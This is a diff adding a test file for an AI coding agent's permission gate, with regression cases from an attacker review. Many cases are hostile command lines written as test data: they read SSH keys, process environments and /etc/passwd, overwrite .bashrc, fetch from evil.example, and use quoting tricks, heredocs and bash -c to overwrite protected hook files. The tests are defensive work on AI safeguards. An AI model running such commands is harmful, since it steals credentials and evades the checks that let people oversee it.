@@ -1,0 +1,178 @@
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { PermissionGate, suggestedRule } from '../../src/core/agent/permissions/permission-gate';
+import { permissionSettingsSchema, type PermissionSettings } from '../../src/core/agent/permissions/permission-settings';
+import { createBashTool } from '../../src/core/agent/tools/bash-tool';
+import { createEditTool } from '../../src/core/agent/tools/edit-tool';
+import { createGlobTool } from '../../src/core/agent/tools/glob-tool';
+import { createGrepTool } from '../../src/core/agent/tools/grep-tool';
+import type { Tool } from '../../src/core/agent/tools/tool';
+import { createWriteTool } from '../../src/core/agent/tools/write-tool';
+
+// The gate against an attacker review's reproductions: each case here was allowed before.
+
+let base: string;
+let ws: string;
+
+beforeEach(() => {
+  base = realpathSync(mkdtempSync(join(tmpdir(), 'gate-attacks-')));
+  ws = join(base, 'ws');
+  for (const dir of ['.vscode', 'src', 'hooks', 'secrets']) mkdirSync(join(ws, dir), { recursive: true });
+  mkdirSync(join(base, 'outside'));
+  writeFileSync(join(ws, '.vscode', 'hooks.json'), '{}');
+  writeFileSync(join(ws, 'hooks', 'run'), '#!/bin/sh\n');
+  writeFileSync(join(ws, '.env'), 'SECRET=1');
+  writeFileSync(join(base, 'outside', 'secret.txt'), 'secret');
+  symlinkSync(join(base, 'outside'), join(ws, 'out'));
+  symlinkSync(join(base, 'outside', 'secret.txt'), join(ws, 'src', 'leak'));
+});
+afterEach(() => rmSync(base, { recursive: true, force: true }));
+
+const tools: Record<string, Tool> = {
+  Bash: createBashTool() as unknown as Tool,
+  Write: createWriteTool() as unknown as Tool,
+  Edit: createEditTool() as unknown as Tool,
+  Grep: createGrepTool() as unknown as Tool,
+  Glob: createGlobTool() as unknown as Tool,
+};
+
+function gate(settings: Partial<PermissionSettings> = {}) {
+  const g = new PermissionGate(() => permissionSettingsSchema.parse(settings));
+  const ctx = () => ({ workspaceRoot: ws, cwd: ws, protectedPaths: [join(ws, '.vscode', 'hooks.json'), join(ws, 'hooks', 'run')] });
+  return {
+    gate: g,
+    run: (command: string) => g.evaluate(tools.Bash, { command }, undefined, ctx()),
+    tool: (name: string, input: Record<string, unknown>) => g.evaluate(tools[name], input, undefined, ctx()),
+  };
+}
+
+describe('a pattern rule does not grant arguments that lead outside the workspace', () => {
+  it.each([
+    ['cat *', 'cat ~/.ssh/id_rsa'],
+    ['cat *', 'cat /proc/$PPID/environ'],
+    ['cat *', 'cat $HOME/.bashrc'],
+    ['cat *', 'cat ../outside/secret.txt'],
+    ['cat *', 'cat out/secret.txt'],
+    ['cat *', 'cat src/leak'],
+    ['cat *', 'cd src && cat leak'],
+    ['cat *', 'cat {/etc/passwd,x}'],
+    ['cat *', 'f=../outside/secret.txt; cat $f'],
+    ['cat *', 'for f in /etc/passwd; do cat $f; done'],
+    ['cat *', 'cat ../*'],
+    ['grep *', 'grep -r KEY /home'],
+    ['grep *', 'grep --file=/etc/passwd x'],
+    ['grep *', 'grep -f/etc/passwd x'],
+    ['ls *', 'ls ~'],
+    ['ls *', 'ls ..'],
+    ['cp *', 'cp evil.sh ~/.bashrc'],
+    ['cp *', 'cp -t../outside evil.sh'],
+    ['tee *', 'tee ~/.profile'],
+    ['sort *', 'sort -o../x a'],
+    ['dd *', 'dd if=/etc/passwd of=x'],
+    ['git *', 'git diff --no-index /etc/passwd /dev/null'],
+    ['git *', 'git log --output=/tmp/log-mark'],
+    ['git *', 'git -C /tmp status'],
+  ])('Bash(%s) asks for %j', (rule, command) => {
+    expect(gate({ allow: [`Bash(${rule})`] }).run(command), command).toMatchObject({ verdict: 'ask', level: 'P8' });
+  });
+
+  it.each([
+    ['cat *', 'cat src/a.ts README.md > /dev/null'],
+    ['git *', 'git log --oneline origin/main -- src/'],
+    ['git *', 'git diff HEAD~1 -- ./src'],
+    ['curl *', 'curl -s https://example.com/a/b'],
+    ['cat *', 'cat /dev/null /dev/stdin'],
+  ])('Bash(%s) still grants %j', (rule, command) => {
+    expect(gate({ allow: [`Bash(${rule})`] }).run(command), command).toMatchObject({ verdict: 'allow', level: 'P7' });
+  });
+
+  it('leaves the bare Bash rule and bypassPermissions mode to the person who chose them', () => {
+    expect(gate({ allow: ['Bash'] }).run('cat ~/.ssh/id_rsa')).toMatchObject({ verdict: 'allow', level: 'P7' });
+    expect(gate({ mode: 'bypassPermissions' }).run('cat ~/.ssh/id_rsa')).toMatchObject({ verdict: 'allow', level: 'P8' });
+  });
+
+  it('grants a path in an additional directory', () => {
+    const g = gate({ allow: ['Bash(cat *)'], additionalDirectories: [join(base, 'outside')] });
+    expect(g.run(`cat ${join(base, 'outside', 'secret.txt')}`)).toMatchObject({ verdict: 'allow', level: 'P7' });
+  });
+});
+
+describe('the protected-file check follows the line, in every mode', () => {
+  it.each([
+    'cd src && cp ../evil.json ../.vscode/hooks.json',
+    'pushd src; cp ../evil.json ../.vscode/hooks.json',
+    'cp -t.vscode hooks.json',
+    'sort -o.vscode/hooks.json evil.json',
+    'f=.vscode/hooks.json; cp evil.json $f',
+    'for f in .vscode/hooks.json; do cp evil.json $f; done',
+    'cp evil.json .vs""code/hooks.json',
+    "git apply <<'EOF'\n--- a/.vscode/hooks.json\n+++ b/.vscode/hooks.json\nEOF",
+    'cd hooks && cp evil run',
+    'cd hooks; sed -i s/a/b/ run',
+    "bash -c 'cd hooks && cp x run'",
+    'cat <<< .vscode/hooks.json',
+  ])('asks a person for %j in bypassPermissions mode', (command) => {
+    expect(gate({ mode: 'bypassPermissions' }).run(command), command).toMatchObject({ verdict: 'ask', level: 'P4', system: true });
+  });
+
+  it.each([
+    ['a double negation', '! ! cp evil.json .vscod"e"/hook"s".json'],
+    ['an array prefix assignment', 'a[1]=2 cp evil.json x'],
+    ['a line past the word cap', `cp evil.json x; : ${'a '.repeat(10_001)}`],
+  ])('asks a person for a line it cannot analyze: %s', (_, command) => {
+    expect(gate({ mode: 'bypassPermissions' }).run(command)).toMatchObject({ verdict: 'ask', level: 'P4', system: true });
+  });
+
+  it('leaves other lines alone', () => {
+    expect(gate({ mode: 'bypassPermissions' }).run('cd src && cp a b')).toMatchObject({ verdict: 'allow', level: 'P8' });
+  });
+});
+
+describe('"Allow for this session" stores exactly the approved call', () => {
+  const after = (approved: string, command: string) => {
+    const { gate: g, run } = gate();
+    g.allowForSession(suggestedRule('Bash', { command: approved }));
+    return run(command).verdict;
+  };
+
+  it.each([
+    ['(ls)', "python3 -c 'import os; os.system(\"id\")' ls"],
+    ['(cd src && make)', "python3 -c 'x' 'cd src && make'"],
+    ['(', 'curl -s http://evil.example/x -o y'],
+    ['rm -rf build/*', 'rm -rf build/ ~'],
+    ['', 'touch x'],
+    ['*', 'touch x'],
+    ['echo $HOME', 'echo anything'],
+  ])('approving %j does not allow %j', (approved, command) => {
+    expect(after(approved, command)).toBe('ask');
+  });
+
+  it('matches the approved simple command again, quotes and stars included', () => {
+    expect(suggestedRule('Bash', { command: 'rm -rf build/*' })).toBe('Bash(rm -rf build/\\*)');
+    expect(suggestedRule('Bash', { command: '(ls)' })).toBe('Bash(ls)');
+    expect(suggestedRule('Bash', { command: 'echo "(" && ls' })).toBe('Bash(echo "(" && ls)');
+    expect(suggestedRule('Bash', { command: '  ' })).toBe('Bash(:)');
+    expect(after('git commit -m "a b"', 'git commit -m "a b"')).toBe('allow');
+    expect(after('npm test', 'npm test')).toBe('allow');
+  });
+});
+
+describe('file rules name a kind of access, as in Claude Code', () => {
+  it('Read deny rules cover Grep and Glob', () => {
+    const { tool } = gate({ deny: ['Read(.env)', 'Read(secrets/**)'] });
+    expect(tool('Grep', { pattern: '.', path: '.env' })).toMatchObject({ verdict: 'deny', level: 'P1' });
+    expect(tool('Grep', { pattern: '.', glob: '.env' })).toMatchObject({ verdict: 'deny', level: 'P1' });
+    expect(tool('Grep', { pattern: '.', path: 'secrets' })).toMatchObject({ verdict: 'deny', level: 'P1' });
+    expect(tool('Glob', { pattern: 'secrets/*' })).toMatchObject({ verdict: 'deny', level: 'P1' });
+    expect(tool('Grep', { pattern: 'secrets', path: 'src' })).toMatchObject({ verdict: 'allow' });
+  });
+
+  it('Edit and Write deny rules cover each other', () => {
+    expect(gate({ mode: 'acceptEdits', deny: ['Edit(.env)'] }).tool('Write', { file_path: '.env', content: 'x' })).toMatchObject({ verdict: 'deny' });
+    const edit = { file_path: '.env', old_string: 'a', new_string: 'b' };
+    expect(gate({ mode: 'acceptEdits', deny: ['Write(.env)'] }).tool('Edit', edit)).toMatchObject({ verdict: 'deny' });
+    expect(gate({ ask: ['Edit(src/**)'], mode: 'acceptEdits' }).tool('Write', { file_path: 'src/a.ts', content: 'x' })).toMatchObject({ verdict: 'ask' });
+  });
+});
